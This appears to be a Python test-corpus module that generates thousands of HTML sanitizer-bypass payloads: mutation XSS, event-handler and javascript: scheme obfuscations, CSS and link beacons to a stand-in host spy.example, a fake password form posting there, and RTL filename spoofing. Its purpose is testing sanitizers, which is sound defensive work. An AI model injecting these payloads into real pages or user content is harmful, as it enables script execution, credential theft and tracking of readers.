"""Markup that has broken one sanitizer or another: families of payloads, each a name and HTML. What they run is `pwn()`."""

import random

RUN = "pwn()"
IMG = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"
# Requests that would tell somebody of the reader.
SPY = "//spy.example/"

# Elements whose content one parser reads as text and another as markup.
RAW = ("noscript", "noembed", "noframes", "style", "script", "xmp", "plaintext", "textarea", "title", "iframe", "listing",
       "template", "select", "option", "math", "svg", "comment", "object", "applet", "canvas", "video", "audio", "frameset",
       "head", "body", "marquee", "isindex", "button", "fencedframe", "portal", "selectmenu", "datalist")
FOREIGN = ("svg", "math", "svg><desc", "svg><title", "svg><foreignObject", "math><mtext", "math><mi", "math><ms",
           "math><annotation-xml", "math><annotation-xml encoding=text/html", "math><mtext><mglyph", "math><mtext><malignmark")
EVENTS = ("onclick", "onerror", "onload", "onmouseover", "onfocus", "onpointerrawupdate", "onanimationstart", "ontoggle",
          "onbeforetoggle", "onauxclick", "oncontentvisibilityautostatechange", "onscrollend", "onwheel", "onbegin",
          "onpageshow", "onhashchange", "onresize", "onstart", "onfinish", "ontransitionend", "onpaste", "ondrag")


def raw_text():
    for name in RAW:
        yield f'<{name}><p title="</{name}>{IMG}">'
        yield f"<{name}>{SCRIPT}</{name}>"
        yield f"<{name}><a title='</{name}><svg onload={RUN}>'>x</a></{name}>"
        yield f"a<{name}/>{IMG}"
        yield f"</{name}>{IMG}"
        yield f"<{name}><!--</{name}>{IMG}-->"


def foreign():
    for path in FOREIGN:
        for hidden in ("style", "title", "textarea", "noscript", "xmp", "iframe", "script", "p", "br", "table"):
            yield f'<{path}><{hidden}><a id="</{hidden}>{IMG}">'
        yield f"<{path}><style><!--</style>{IMG}--></style>"
        yield f"<{path}><![CDATA[><p>{IMG}]]>"
        yield f"<{path}></p><style><!--</style>{IMG}"


def mutation():
    yield f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"
    yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    yield f"<math><mtext><table><mglyph><style><math><table id='</table>{IMG}'>"
    yield f"<svg></p><style><a id=\"</style>{IMG}\">"
    yield f"<svg><p><style><g title=\"</style>{IMG}\">"
    yield f"<p><svg><desc><p><style><a title=\"</style>{IMG}\">"
    yield f"<table><caption><math><mi><table><tr><td><style><!--</style>{IMG}-->"
    yield f"<select><option><style></option></select><svg onload={RUN}></style>"
    yield f"<select><noembed></select><script>x='a@b'a</script></noembed>{IMG}"
    yield f"<noscript><style></noscript>{IMG}"
    yield f"<noframes><p>--></noframes><!--{IMG}"
    yield f"<a href='#'><table><a href='//x' title='</table>{IMG}'>"
    yield f"<b><i><u><b><i><u><p></b>{IMG}</p></i></u>"
    yield "<a>" * 20 + "<p>" * 20 + IMG
    yield f"<div>{'<b>' * 12}<p>{'</b>' * 6}<table>{IMG}<tr><td></table>"
    yield f"<dl><dt><dl><dd><dt><p><dl>{IMG}"
    yield f"<h1><h2><p><h3><table><h1>{IMG}"
    yield f"<ul><li><ol><p><li></ul><li>{IMG}"
    yield f"<ruby><rb><rt><rtc><rp><style></rt>{IMG}"
    yield f"<nobr><nobr><font color=red><nobr><table><nobr>{IMG}"
    yield f"<p><button><p><table><button>{IMG}"
    yield f"<!--[if true]>{SCRIPT}<![endif]-->"
    yield f"<![if true]>{SCRIPT}<![endif]>"
    yield f"<?xml version=\"1.0\"?><?php echo '{IMG}' ?>"
    yield f"<!DOCTYPE html [<!ENTITY x '{IMG}'>]>&x;"
    yield "<template shadowrootmode=open>" + SCRIPT + "</template>"
    yield f"<math><!-- --!><p>{IMG}-->"
    for comment in ("<!-->", "<!--->", "<!--- -->", "<!-- --!>", "<!-- -- >", "<!-x>", "<!>", "</ x>", "<//>", "<!--\0-->",
                    "<!-- <!-- -->", "<!--<!--->", "<![CDATA[-->]]>"):
        yield f"{comment}{IMG}-->"


def tables():
    for part in ("table", "tbody", "thead", "tfoot", "tr", "td", "th", "caption", "colgroup", "col"):
        for inner in ("a href=//a.example/", "b", "p", "table", "form", "select", "svg", "h1", "li", "pre", "input type=hidden"):
            yield f"<table><{part}><{inner}>x{IMG}</{part}>y<{inner}>"
        yield f"<{part}>{IMG}<table><{part}></table>{SCRIPT}"


def attributes():
    for quote in ('"', "'", ""):
        for evil in (f"x{quote} onerror={RUN} y={quote}", f"x{quote}/onerror={RUN}//", f"`{quote}onerror={RUN} `",
                     f"&quot; onerror={RUN} ", f"&#34; onerror={RUN} ", f"&#x22;&#62;{IMG}", f">{IMG}", "\0", "<", "=", "&",
                     f"\n{quote}\nonerror\n=\n{RUN}\n", f"x{quote}{quote}onerror={RUN}"):
            yield f"<img alt={quote}{evil}{quote} src={quote}/pixel.png{quote}>"
            yield f"<abbr title={quote}{evil}{quote}>x</abbr>"
    yield f"<img alt=\"x\" alt='y' src=/pixel.png src=x onerror={RUN}>"
    yield f"<img src=/pixel.png\"onerror={RUN}>"
    yield f"<img src='/pixel.png'\"onerror=\"{RUN}\">"
    yield f"<img/src=/pixel.png/onerror={RUN}>"
    yield f"<img ='x' onerror={RUN} src=x>"
    yield f"<img \"\"\"><script>{RUN}</script>\">"
    yield f"<img src=\"x` `<script>{RUN}</script>\"` `>"
    yield f"<b {'a' * 3000}=x onclick={RUN}>x</b>"


def events():
    for event in EVENTS:
        for space in (" ", "/", "\n", "\t", "\f", "\r", "\0", " x=y\0", "\u00a0", "\v"):
            yield f"<b{space}{event}={RUN} tabindex=1 autofocus>x</b>"
        yield f"<video src=/clip.mp4 {event.upper()}={RUN}><source src=x {event}={RUN}></video>"
        yield f"<a href=/ {event}\0={RUN} {event} ={RUN}>x</a>"
        yield f"<svg {event}={RUN}><animate {event}={RUN} attributeName=x dur=1s></svg>"


def spelled(scheme):
    """A scheme and its colon as browsers understand them, and as they nearly do."""
    head, middle = scheme[0], len(scheme) // 2
    yield scheme + ":"
    yield scheme.upper() + ":"
    yield "".join(c.upper() if i % 2 else c for i, c in enumerate(scheme)) + ":"
    for gap in ("\t", "\n", "\r", "&Tab;", "&NewLine;", "&#9;", "&#x0A;", "&#13", "&#0000009", "\0", "&#0;", "\x01", "\x1f",
                "\u00ad", "\u200b", "\u2028", "\ufeff", "/**/", "%09", "\\t"):
        yield scheme[:middle] + gap + scheme[middle:] + ":"
        yield gap + scheme + ":"
        yield scheme + gap + ":"
        yield scheme + ":" + gap
    for lead in (" ", "\u00a0", "\u3000", "\x0b", "\x0c", "\x85", "&nbsp;", "&#32;", "view-source:", "feed:", "url:", "x-"):
        yield lead + scheme + ":"
    yield f"&#{ord(head)};{scheme[1:]}:"
    yield f"&#{ord(head)}{scheme[1:]}:"
    yield f"&#x{ord(head):X};{scheme[1:]}:"
    yield f"&#x00000{ord(head):x}{'' if scheme[1] in 'abcdef' else ''};{scheme[1:]}:"
    yield "".join(f"&#{ord(c)};" for c in scheme) + "&#58;"
    yield "".join(f"&#x{ord(c):x};" for c in scheme) + "&colon;"
    yield "".join(f"%{ord(c):02x}" for c in scheme) + ":"
    yield f"\\u{ord(head):04x}{scheme[1:]}:"
    yield chr(0xFF00 + ord(head) - 0x20) + scheme[1:] + ":"
    yield scheme + "\uff1a"
    yield scheme + "&amp;colon;"


def addresses():
    rest = {"javascript": RUN, "vbscript": RUN, "data": f"text/html,{SCRIPT}", "livescript": RUN, "blob": SPY,
            "filesystem": SPY, "file": "///etc/passwd", "about": "srcdoc", "jar": SPY + "x!/y", "intent": SPY + "#Intent;end",
            "ms-its": SPY, "mhtml": SPY, "cid": "x", "ws": SPY, "ftp": SPY}
    for scheme, what in rest.items():
        for head in spelled(scheme) if scheme in ("javascript", "vbscript", "data") else (scheme + ":", scheme.upper() + ":"):
            yield f'<a href="{head}{what}">x</a>'
    for head in ("javascript:", "data:image/svg+xml,<svg onload=pwn()>", "data:image/png;base64,AAAA", "java\nscript:"):
        for tag in ("img src", "video src", "video poster", "audio src", "source src", "iframe src", "embed src", "object data",
                    "img srcset", "img lowsrc", "img dynsrc", "table background", "td background", "body background",
                    "form action", "button formaction", "input type=image src", "link rel=stylesheet href", "base href",
                    "area href", "blockquote cite", "q cite", "del cite", "ins cite", "img longdesc", "img usemap", "a ping",
                    "a xlink:href", "svg:a xlink:href", "image src", "image xlink:href", "bgsound src", "frame src",
                    "track src", "script src", "meta http-equiv=refresh content", "html manifest", "command icon",
                    "isindex action", "applet code", "applet archive", "div style"):
            yield f'<{tag}="{head}{RUN}">x</{tag.split()[0]}>'
    for odd in ("http:javascript:pwn()", "http://", "http:///spy.example", "https:spy.example", "http:\\\\a.example",
                "//a.example@spy.example", "http://a.example\\@b.example", "http://[::1", "http://a b.example/",
                "\\\\a.example\\b", "/\\a.example", "///a.example", "?javascript:pwn()", "#javascript:pwn()", "./javascript:pwn()",
                "mailto:a@b.example?body=<script>", "tel:+1\"onclick=pwn()", "http://a.example/\"onclick=pwn()",
                "http://a.example/'><script>pwn()</script>", "http://xn--a.example/", "http://ａ.example/", "http://a.example:x/"):
        yield f"<a href='{odd}'>x</a>"
        yield f'<a href="{odd}">x</a>'


def pictures():
    for source in ("srcset='//spy.example/1 1x, //spy.example/2 2x'", "srcset='javascript:pwn() 1x'", "imagesizes=x imagesrcset=//spy.example/"):
        yield f"<img src=/pixel.png {source}>"
        yield f"<picture><source {source}><img src=/pixel.png></picture>"
        yield f"<link rel=preload as=image {source} href=//spy.example/>"


def styles():
    for css in ("background:url(//spy.example/)", "width:expression(pwn())", "-moz-binding:url(//spy.example/#x)",
                "behavior:url(//spy.example/)", "background:\\75rl(//spy.example/)", "background:url(javascript:pwn())",
                "position:fixed;inset:0;z-index:9999", "color:red;{}@import '//spy.example/'", "content:url(//spy.example/)",
                "background-image:image-set('//spy.example/' 1x)", "list-style:url(//spy.example/)", "cursor:url(//spy.example/),auto"):
        yield f"<div style=\"{css}\">x</div>"
        yield f"<style>*{{{css}}}</style>"
        yield f"<svg><style>*{{{css}}}</style></svg>"
        yield f"<p STYLE='{css}' class=x id=y>x</p>"
    yield "<style>@import '//spy.example/';@font-face{font-family:x;src:url(//spy.example/)}</style>"
    yield "<link rel=stylesheet href=//spy.example/>"
    yield "<font face=x color=url(//spy.example/) size=7>x</font>"


def documents():
    yield f"<base href=//spy.example/><img src=pixel.png>"
    yield "<meta http-equiv=refresh content='0;url=//spy.example/'>"
    yield "<meta http-equiv=refresh content='0;url=javascript:pwn()'>"
    yield "<meta http-equiv=set-cookie content=a=b><meta charset=utf-7>"
    yield "<meta http-equiv=content-security-policy content=\"img-src 'none'\">"
    for rel in ("stylesheet", "prefetch", "preload", "modulepreload", "dns-prefetch", "preconnect", "icon", "manifest", "import"):
        yield f"<link rel={rel} href=//spy.example/ as=script>"
    yield f"<html onload={RUN}><head>{SCRIPT}</head><body onload={RUN}>x</body></html>"
    yield f"<frameset onload={RUN}><frame src=//spy.example/></frameset>"
    yield f"</main></body></html>{SCRIPT}{IMG}"
    yield f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"//spy.example/\"]}}]}}</script>"
    yield f"<script type=importmap>{{}}</script><script type=module>{RUN}</script>"
    yield "<script async src=//spy.example/x.js></script>"
    yield f"<script\n>{RUN}</script\t\n bar>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<\0script>{RUN}</script>"
    yield f"<scr\0ipt>{RUN}</scr\0ipt>"
    yield f"<script{chr(0x0c)}>{RUN}</script>"
    yield f"<ſcript>{RUN}</ſcript>"
    yield f"＜script＞{RUN}＜/script＞"
    yield "+ADw-script+AD4-pwn()+ADw-/script+AD4-"
    yield "\x1b(J<script>pwn()</script>\x1b$B"
    yield "%3Cscript%3Epwn()%3C/script%3E"
    yield "&lt;script&gt;pwn()&lt;/script&gt;"
    yield "&amp;lt;script&amp;gt;pwn()"
    yield "&lt&#115;cript>pwn()"
    yield "&#60script&#62pwn()&#60/script&#62"
    yield "&#x3c;img src=x onerror=pwn()&#x3E;"
    yield "&LT;img src=x onerror=pwn()&GT; &nvlt;x &NewLine;&fjlig; &notit; &not; &ampx &copy2;"
    yield "\ud7ff\uf8ff\ufdd0\U0001fffe<b>x</b>"


def frames():
    for src in ("https://www.cincopa.com/media-platform/iframe.aspx?fid=A", "//spy.example/", "javascript:pwn()",
                "data:text/html,<script>parent.pwn()</script>", "about:blank", "https://www.youtube.com/embed/x"):
        yield f"<iframe src=\"{src}\" onload={RUN}></iframe>"
        yield f"<iframe src=\"{src}\" sandbox='allow-scripts allow-top-navigation' name=x>"
        yield f"<object data=\"{src}\" type=text/html>x</object>"
        yield f"<embed src=\"{src}\" type=image/svg+xml>"
        yield f"<portal src=\"{src}\"></portal><fencedframe src=\"{src}\"></fencedframe>"
    yield "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>"
    yield "<iframe srcdoc='&lt;img src=x onerror=parent.pwn()&gt;'></iframe>"
    yield "<object><param name=code value=//spy.example/></object>"
    yield "<applet code=//spy.example/ codebase=//spy.example/></applet>"
    yield "<bgsound src=//spy.example/><audio src=//spy.example/a.mp3 autoplay>"
    yield "<video autoplay src=//spy.example/v.mp4><track src=//spy.example/t.vtt default></video>"


def vectors():
    yield f"<svg/onload={RUN}>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script xlink:href=//spy.example/ /></svg>"
    yield f"<svg><a xlink:href=javascript:{RUN}><text x=20 y=20>x</text></a></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>"
    yield f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>"
    yield f"<svg><set attributeName=onmouseover to={RUN} /></svg>"
    yield "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()>#x' /></svg>"
    yield "<svg><use xlink:href=//spy.example/x.svg#x /></svg>"
    yield "<svg><image href=//spy.example/ /><feImage xlink:href=//spy.example/ /></svg>"
    yield f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>"
    yield f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{RUN}</handler></svg>"
    yield f"<math href=javascript:{RUN}>x</math>"
    yield f"<math><mi xlink:href=javascript:{RUN} href=javascript:{RUN}>x</mi></math>"
    yield f"<math><maction actiontype=statusline#//spy.example xlink:href=javascript:{RUN}>x</maction></math>"
    yield f"<math><annotation-xml encoding=text/html>{SCRIPT}</annotation-xml></math>"
    yield f"<x xmlns='http://www.w3.org/1999/xhtml'><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script></x>"


def forms():
    yield f"<form action=javascript:{RUN}><input type=submit></form>"
    yield f"<form id=f></form><button form=f formaction=javascript:{RUN}>x</button>"
    yield "<form action=//spy.example/><input name=password type=password><button>Sign in</button></form>"
    yield f"<isindex type=image src=x onerror={RUN} action=javascript:{RUN}>"
    yield f"<input autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea><select autofocus onfocus={RUN}>"
    yield f"<details open ontoggle={RUN}><summary>x</summary>y</details>"
    yield f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>"
    yield f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>y</div>"
    yield f"<button commandfor=x command=show-modal>x</button>"
    yield f"<marquee onstart={RUN}>x</marquee><keygen autofocus onfocus={RUN}><xss contenteditable onfocus={RUN}>"
    for name in ("cookie", "body", "forms", "currentScript", "getElementById", "cp_widget_1", "cpo", "_cpmp", "location"):
        yield f"<img name={name} id={name} src=/pixel.png><a id={name} name={name} href=/x>x</a><form id={name} name={name}></form>"
    for target in ("_top", "_parent", "_blank", "x"):
        yield f"<a href=http://a.example/ target={target} rel=opener download ping=//spy.example/>x</a>"
    yield "<a href=http://a.example/ rel='dofollow me' referrerpolicy=unsafe-url accesskey=x tabindex=-1>x</a>"
    yield "<p data-x=y aria-hidden=true role=button hidden draggable=true contenteditable is=x slot=y part=z>x</p>"


def letters():
    for control in ("\u202e", "\u2066", "\u2067", "\u202a", "\u200f", "\u061c"):
        yield f"<b>a{control}b</b> gpj.exe{control}"
        yield f"<a href='http://a.example/{control}x' title='{control}y'>x{control}</a>"
        yield f"<img src=/pixel.png alt='{control}'>"
    for byte in list(range(1, 32)) + [0x7F, 0x80, 0x85, 0x9F, 0xA0, 0xAD, 0x2028, 0xFEFF, 0xFFFE, 0xFFFF, 0xFFFD]:
        yield f"<p>{chr(byte)}<b{chr(byte)}>x</b{chr(byte)}>&#{byte};</p>"
        yield f"<a href=\"{chr(byte)}javascript:pwn()\" title='{chr(byte)}'>x</a>"


def nested():
    for name in ("div", "b", "a href=//a.example/", "ul><li", "table><tr><td", "blockquote", "p", "font", "h1", "dl><dd", "pre", "q"):
        yield f"<{name}>" * 70 + "x" + IMG
        yield (f"<{name}>" * 7 + "x" + f"</{name.split('>')[0].split()[0]}>" * 3) * 5
    yield "<pre>\n\n\nx</pre><pre>\n<b>\n</b></pre><listing>\nx</listing><textarea>\n\nx</textarea>"


RANDOM_TAGS = """a b i u p div span table tr td th tbody thead tfoot caption colgroup col li ul ol dl dt dd pre h1 h2 h3 blockquote
    figure figcaption img br hr video audio source code small strike s font nobr center section form button select option
    textarea title style script noscript svg math mtext mi mglyph desc foreignObject template iframe object embed xmp listing
    plaintext body html head meta base marquee ruby rt rp rb wbr input image summary details address menu dir em strong
    annotation-xml tt big acronym article main nav frameset frame noframes noembed dialog legend fieldset""".split()
RANDOM_TEXTS = ["x", " ", "\n", "&amp;", "&lt;", "<", "&nbsp;", "é", "]]>", "-->", "<!--", "<!-- x -->", "<![CDATA[", "</>", "<?",
                "</p>", "</br>", "</body>", "&#0;", "&#x80;", "\0", "\r\n", "\u2028", "&notin;", "&copy", "<!DOCTYPE html>"]
RANDOM_ATTRIBUTES = ["href='http://a.example/'", "title='</p><x'", "alt=\"--><b>\"", "src=/pixel.png", "onclick=pwn()", "id=x",
                     "style=x", "colspan=3", "width=9", "encoding=text/html", "type=hidden", "datetime='`'", "href=JAVASCRIPT:pwn()"]


def chance(seed, count=1500):
    dice = random.Random(seed)
    for _ in range(count):
        parts = []
        for _ in range(dice.choice((3, 6, 12, 25))):
            kind, name = dice.random(), dice.choice(RANDOM_TAGS)
            if kind < 0.5:
                attributes = "".join(" " + dice.choice(RANDOM_ATTRIBUTES) for _ in range(dice.choice((0, 0, 1, 2))))
                parts.append(f"<{name}{attributes}{dice.choice(('>', '>', '>', '/>'))}")
            elif kind < 0.75:
                parts.append(f"</{name}>")
            else:
                parts.append(dice.choice(RANDOM_TEXTS))
        yield "".join(parts)


FAMILIES = (raw_text, foreign, mutation, tables, attributes, events, addresses, pictures, styles, documents, frames, vectors,
            forms, letters, nested)


def known():
    """All but those by chance, as pairs of a name and HTML."""
    return [(f"{family.__name__}-{number}", html) for family in FAMILIES for number, html in enumerate(family())]


def by_chance(seed=1):
    return [(f"chance-{number}", html) for number, html in enumerate(chance(seed))]
